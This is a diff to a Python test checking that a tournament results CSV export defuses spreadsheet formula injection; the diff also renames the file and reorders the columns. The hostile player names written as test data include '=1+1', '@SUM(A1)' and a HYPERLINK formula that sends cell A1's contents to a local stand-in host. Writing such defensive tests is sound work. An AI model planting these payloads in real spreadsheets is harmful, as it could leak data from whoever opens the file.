@@ -53,22 +53,34 @@ def write_as_text(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
 def test_hostile_names_are_defused_in_the_ema_export(tmp_path, capsys):
     path = write_as_text(tmp_path / "open.xlsx", hostile_tournament())
     assert main([str(path), "--out", str(tmp_path / "out")]) == 0, capsys.readouterr().err
-    text = (tmp_path / "out" / "ema-results.csv").read_text(encoding="utf-8")
+    text = (tmp_path / "out" / "Test-Open-EMA.csv").read_text(encoding="utf-8")
     rows = list(csv.reader(io.StringIO(text)))
-    assert rows[0] == ["Place", "EMA number", "Last name", "First name", "Country", "Points"]
-    by_last = {r[2]: r for r in rows[1:]}
-    assert by_last["Holm"][1] == "'=1+1"
-    assert by_last["Holm"][3] == '\'=HYPERLINK("http://127.0.0.1/x?"&A1, "Anna")'
-    assert by_last["'+Berg"][3:5] == ["Bo", "'-DNK"]
+    assert rows[0][:10] == [
+        "Tournament",
+        "Participants",
+        "Place",
+        "First name",
+        "Last name",
+        "EMA number",
+        "Table points",
+        "Score",
+        "EMA member",
+        "Country",
+    ]
+    by_last = {r[4]: r for r in rows[1:]}
+    assert by_last["HOLM"][5] == "'=1+1"
+    assert by_last["HOLM"][3] == '\'=HYPERLINK("http://127.0.0.1/x?"&A1, "Anna")'
+    assert by_last["'+BERG"][3] == "Bo" and by_last["'+BERG"][9] == "'-DNK"
     assert by_last["'-2+3"][3] == "Carl"
     assert by_last["'@SUM(A1)"][3] == "Dorte"
     for row in rows[1:]:  # no text starts like a formula; the points are plain numbers
-        assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row[:5])
+        texts = [row[0], *row[3:6], row[9], *row[11:13]]
+        assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in texts)
     # the raw file: every defused text quoted, every number as it is (a negative one too)
-    assert '"\'@SUM(A1)"' in text and '"\'+Berg"' in text
-    assert [r[5] for r in rows[1:]] == ["27300", "25200", "15000", "15000", "6500", "-2000",
+    assert '"\'@SUM(A1)"' in text and '"\'+BERG"' in text
+    assert [r[7] for r in rows[1:]] == ["27300", "25200", "15000", "15000", "6500", "-2000",
                                         "-37000", "-50000"]  # fmt: skip
-    assert text.endswith(",Dorte,DNK,-37000\n8,04010007,Ulv,Hans,DNK,-50000\n")
+    assert rows[-1][2:10] == ["8", "Hans", "ULV", "04010007", "1", "-50000", "1", "DNK"]
     assert len(rows) == 1 + len(PLAYERS)
 
 
